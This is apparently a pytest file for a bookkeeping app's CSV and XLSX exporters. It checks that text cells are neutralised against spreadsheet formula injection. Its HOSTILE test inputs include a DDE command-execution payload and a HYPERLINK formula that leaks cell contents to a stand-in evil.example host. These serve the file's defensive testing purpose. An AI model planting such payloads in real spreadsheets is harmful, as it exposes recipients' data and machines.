"""The shared tabular writers (exporters.tabular): text stays text, amounts stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from crechebooks_desktop.domain.money import MoneyStyle
from crechebooks_desktop.exporters.tabular import (
    FORMULA_STARTS,
    Column,
    Kind,
    csv_cell,
    csv_text,
    write_csv,
    write_xlsx,
)

HOSTILE = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+27 82 555 0101",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)

Row = tuple[str, int, dt.date]
COLUMNS: tuple[Column[Row], ...] = (
    Column("Name", lambda r: r[0]),
    Column("Amount", lambda r: r[1], Kind.MONEY),
    Column("Date", lambda r: r[2], Kind.DATE),
)
ROWS: list[Row] = [(text, -25_000, dt.date(2026, 11, 1)) for text in HOSTILE]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_text_that_could_be_a_formula_gets_a_leading_quote(text: str) -> None:
    assert csv_text(text) == "'" + text
    assert csv_cell(Kind.TEXT, text) == "'" + text


@pytest.mark.parametrize("text", ["Nomsa Dlamini", "Zoë", "'quoted", "a=b", ""])
def test_csv_text_that_cannot_be_a_formula_is_left_alone(text: str) -> None:
    assert csv_text(text) == text


def test_csv_amounts_and_dates_are_not_text() -> None:
    assert csv_cell(Kind.MONEY, -25_000) == "-250.00"
    assert csv_cell(Kind.MONEY, -25_000, decimal_comma=True) == "-250,00"
    assert csv_cell(Kind.DATE, dt.date(2026, 11, 1)) == "2026-11-01"
    assert csv_cell(Kind.MONTH, dt.date(2026, 11, 1)) == "2026-11"
    assert csv_cell(Kind.TEXT, None) == ""


@given(st.text())
def test_no_csv_text_cell_starts_a_formula(text: str) -> None:
    cell = csv_cell(Kind.TEXT, text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell.removeprefix("'") == text or cell == text


@pytest.mark.parametrize("style", list(MoneyStyle))
def test_a_csv_file_read_back_holds_neutralised_text_and_plain_amounts(
    tmp_path: Path, style: MoneyStyle
) -> None:
    path = tmp_path / "list.csv"
    assert write_csv(COLUMNS, ROWS, path, style) == len(HOSTILE)
    delimiter = ";" if style is MoneyStyle.SPACE_COMMA else ","
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=delimiter))
    amount = "-250,00" if style is MoneyStyle.SPACE_COMMA else "-250.00"
    assert rows == [
        ["Name", "Amount", "Date"],
        *[["'" + text, amount, "2026-11-01"] for text in HOSTILE],
    ]


def test_a_workbook_read_back_holds_strings_numbers_and_dates(tmp_path: Path) -> None:
    path = tmp_path / "list.xlsx"
    assert write_xlsx(COLUMNS, ROWS, path, "List") == len(HOSTILE)
    sheet = load_workbook(path).active
    for number, text in enumerate(HOSTILE, start=2):
        name, amount, day = sheet[number]
        stored = text.replace("\r", "\n")  # XML reads a carriage return as a line feed
        assert (name.value, name.data_type, name.quotePrefix) == (stored, "s", True)
        assert (amount.value, amount.data_type) == (-250, "n")
        assert day.is_date
    totals = sheet[len(HOSTILE) + 2]
    assert (totals[1].value, totals[1].data_type) == (f"=SUM(B2:B{len(HOSTILE) + 1})", "f")


def test_a_workbook_holds_text_it_cannot_store_as_spaces(tmp_path: Path) -> None:
    """A name stored before control characters were refused still exports."""
    path = tmp_path / "list.xlsx"
    write_xlsx(COLUMNS, [("Bell\x07Name", 100, dt.date(2026, 1, 1))], path, "List")
    cell = load_workbook(path).active["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("Bell Name", "s", False)
